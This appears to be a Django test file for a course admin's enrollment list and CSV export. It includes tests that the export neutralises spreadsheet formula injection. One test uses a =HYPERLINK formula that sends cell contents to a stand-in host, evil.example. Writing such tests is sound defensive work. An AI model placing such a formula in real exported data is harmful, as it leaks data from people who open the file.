import csv
import io

from django.urls import reverse

from courses.admin import csv_safe
from courses.models import Enrollment


def test_the_enrollment_list_shows_progress_and_activity(client, admin_user, enrollment):
    Enrollment.objects.filter(pk=enrollment.pk).update(progress_percent=25, completed_lessons=3)
    client.force_login(admin_user)
    response = client.get(reverse("admin:courses_enrollment_changelist") + "?status__exact=active")
    html = response.content.decode()
    assert response.status_code == 200
    assert "25% (3 of 12)" in html
    assert enrollment.offering.title in html


def test_the_csv_export_lists_the_selected_enrollments(client, admin_user, enrollment, learner):
    client.force_login(admin_user)
    response = client.post(
        reverse("admin:courses_enrollment_changelist"),
        {"action": "export_csv", "_selected_action": [enrollment.pk]},
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert len(rows) == 1
    assert rows[0]["email"] == learner.email
    assert rows[0]["status"] == "Active"
    assert rows[0]["total_lessons"] == "12"
    assert rows[0]["offering"] == enrollment.offering.title


def _export(client, admin_user, enrollment) -> dict:
    client.force_login(admin_user)
    response = client.post(
        reverse("admin:courses_enrollment_changelist"),
        {"action": "export_csv", "_selected_action": [enrollment.pk]},
    )
    return next(csv.DictReader(io.StringIO(response.content.decode())))


def test_the_csv_export_writes_a_formula_display_name_as_text(client, admin_user, enrollment, learner):
    learner.display_name = '=HYPERLINK("https://evil.example/?x="&A2,"Click me")'
    learner.save(update_fields=["display_name"])
    enrollment.offering.title = "@SUM(1+1)"
    enrollment.offering.save(update_fields=["title"])
    row = _export(client, admin_user, enrollment)
    assert row["name"] == "'" + learner.display_name
    assert row["offering"] == "'@SUM(1+1)"


def test_the_csv_export_neutralises_every_formula_lead_and_leaves_plain_text_alone(db):
    for lead in ["=", "+", "-", "@", "\t", "\r"]:
        assert csv_safe(f"{lead}1+1") == f"'{lead}1+1"
    assert csv_safe("Lee Learner") == "Lee Learner"
    assert csv_safe("") == ""
    assert csv_safe(42) == 42
